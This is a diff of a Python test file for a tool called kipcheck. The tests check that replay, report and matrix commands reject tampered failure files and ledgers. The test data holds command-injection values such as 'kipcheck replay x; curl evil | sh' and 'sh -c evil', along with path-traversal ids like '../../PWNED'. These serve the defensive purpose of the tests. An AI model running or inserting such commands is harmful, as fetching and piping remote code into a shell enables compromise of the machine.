@@ -115,8 +115,8 @@ def test_a_testee_steers_neither_a_terminal_nor_a_file(capsys: pytest.CaptureFix
     kipcheck(capsys, "triage", str(out))
     kipcheck(capsys, "triage", str(out), "--json")
     failures = read(out / NAME).failures
-    assert failures and all(each["reproduce"].endswith(f"--target '{command_of('Steers')}'") for each in failures)
-    path = out / "failures" / f"{failures[0]['id']}.json"
+    assert failures and all(each.reproduce.endswith(f"--target '{command_of('Steers')}'") for each in failures)
+    path = out / "failures" / f"{failures[0].id}.json"
     refused = kipcheck(capsys, "replay", str(path))
     assert (refused.code, refused.out) == (2, "")
     assert f"{path} names the target '{command_of('Steers')}', but kipcheck does not" in refused.err
@@ -180,12 +180,15 @@ def test_a_failure_file_starts_nothing_and_leads_nowhere(capsys: pytest.CaptureF
         ({"id": "../../PWNED"}, "\"id\" is '../../PWNED': the id of a failure is 12 hex digits"),
         ({"id": "0123456789ab\n"}, "\"id\" is '0123456789ab\\n': the id of a failure is 12 hex digits"),
         ({"id": 5}, '"id" is 5: the id of a failure is 12 hex digits'),
-        ({"reproduce": "kipcheck replay x; curl evil | sh"}, "that is no single command of kipcheck"),
-        ({"reproduce": "curl evil"}, "\"reproduce\" is 'curl evil': that is no single command of kipcheck"),
-        ({"target": ["cmd:x"]}, 'holds no failure: "target" is no text'),
-        ({"case": {**case, "steps": []}}, 'holds no failure: "case": '),
-        ({"case": {**case, "steps": [{"actor": "codec", "verb": "decode", "body": 5}]}}, 'holds no failure: "case": '),
-        ({"case": {**case, "role": EVIL}}, 'holds no failure: "case": '),
+        ({"reproduce": "kipcheck replay x; curl evil | sh"}, "it must be a single command of kipcheck"),
+        ({"reproduce": "curl evil"}, "\"reproduce\" is 'curl evil': it must be a single command of kipcheck"),
+        ({"target": ["cmd:x"]}, 'does not contain a failure: "target" must be a text'),
+        ({"case": {**case, "steps": []}}, 'does not contain a failure: "case": '),
+        (
+            {"case": {**case, "steps": [{"actor": "codec", "verb": "decode", "body": 5}]}},
+            'does not contain a failure: "case": ',
+        ),
+        ({"case": {**case, "role": EVIL}}, 'does not contain a failure: "case": '),
     )
     for more, why in files:
         path = filed(tmp_path, **more)
@@ -195,7 +198,7 @@ def test_a_failure_file_starts_nothing_and_leads_nowhere(capsys: pytest.CaptureF
             assert str(path) in seen.err and why in seen.err
     for text in ("[" * 100_000, "5", "\x00"):
         path.write_text(text)
-        assert "holds no failure" in kipcheck(capsys, "replay", str(path)).err
+        assert "does not contain a failure" in kipcheck(capsys, "replay", str(path)).err
     for name in (f"cmd:touch {pwned}", f"drill:raise@1,once={pwned}"):
         seen = kipcheck(capsys, "replay", str(filed(tmp_path, target=name)))
         assert seen.code == 2 and f"names the target '{name}', but kipcheck does not" in seen.err
@@ -278,7 +281,7 @@ def test_a_judged_test_takes_the_testee_of_the_environment(
 def test_a_ledger_leads_nowhere(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     for key, value, why in (
         ("id", "../../../PWNED", "\"id\" is '../../../PWNED': the id of a failure is 12 hex digits"),
-        ("reproduce", "sh -c evil", "\"reproduce\" is 'sh -c evil': that is no single command of kipcheck"),
+        ("reproduce", "sh -c evil", "\"reproduce\" is 'sh -c evil': it must be a single command of kipcheck"),
     ):
         out = tmp_path / key / "out"
         path = write(out, ("failure", {**FAILURE, key: value}))
@@ -296,7 +299,10 @@ def test_a_ledger_leads_nowhere(capsys: pytest.CaptureFixture[str], tmp_path: Pa
 
 def test_a_ledger_forges_no_verdict(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     spoiled = {"version": EVIL, "why": EVIL, "sentence": EVIL, "subject": EVIL, "target": f"x{EVIL}", "check": EVIL}
-    lines = [(kind, {**line, **{k: v for k, v in spoiled.items() if k in line}}) for kind, line in everything()]
+    lines = [
+        (kind, {**line, **{k: v for k, v in spoiled.items() if isinstance(line.get(k), str)}})
+        for kind, line in everything()
+    ]
     write(tmp_path, *lines, header={**HEADER, "kipcheck": EVIL})
     for form in ("text", "markdown", "json", "sarif"):
         assert "evil.example" in kipcheck(capsys, "report", str(tmp_path), "--form", form).out
@@ -343,7 +349,7 @@ def test_a_matrix_leads_nowhere(capsys: pytest.CaptureFixture[str], tmp_path: Pa
     (tmp_path / "matrix.json").write_text(json.dumps({**whole, "cells": cells}))
     seen = kipcheck(capsys, "report", str(tmp_path), "--form", "all")
     assert (seen.code, seen.out) == (2, "")
-    assert f"{tmp_path / 'matrix.json'} is no result of kipcheck matrix" in seen.err and "../../PWNED" in seen.err
+    assert f"{tmp_path / 'matrix.json'} is not a result of kipcheck matrix" in seen.err and "../../PWNED" in seen.err
     cells = [{**each, "play": EVIL, "reason": EVIL} for each in whole["cells"]]
     (tmp_path / "matrix.json").write_text(json.dumps({**whole, "cells": cells}))
     for form in ("text", "markdown", "json"):
